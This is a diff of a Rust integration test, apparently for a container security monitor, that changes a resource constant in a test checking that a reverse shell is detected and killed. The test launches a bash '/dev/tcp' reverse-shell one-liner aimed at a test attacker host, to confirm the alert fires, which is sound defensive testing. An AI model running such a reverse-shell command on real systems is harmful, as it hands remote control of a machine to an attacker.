@@ -11,7 +11,7 @@ use std::process::{Command, Stdio};
 use std::thread;
 
 use coi_tests::incus::{self, Foreign};
-use coi_tests::{Attacker, Cgroup, Coi, DEADLINE, DEFAULT, TINY, end, eventually};
+use coi_tests::{Attacker, Cgroup, Coi, DEADLINE, SMALL, TINY, end, eventually};
 use nix::unistd::Group;
 use serde_json::{Value, json};
 
@@ -237,7 +237,7 @@ fn a_workspace_is_opened_as_who_names_it() {
 fn what_happened_is_counted_and_the_last_alerts_are_told() {
     let coi = Coi::with_daemon(&[]);
     let attacker = Attacker::on_bridge();
-    let ended = coi.run(DEFAULT, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
+    let ended = coi.run(SMALL, &["bash", "-c", &attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1")]);
     coi.assert_killed(ended, "reverse-shell-socket");
 
     let (_, alerts) = ROOT.get(&coi, &format!("/v1/alerts?watch={}", coi.container()));
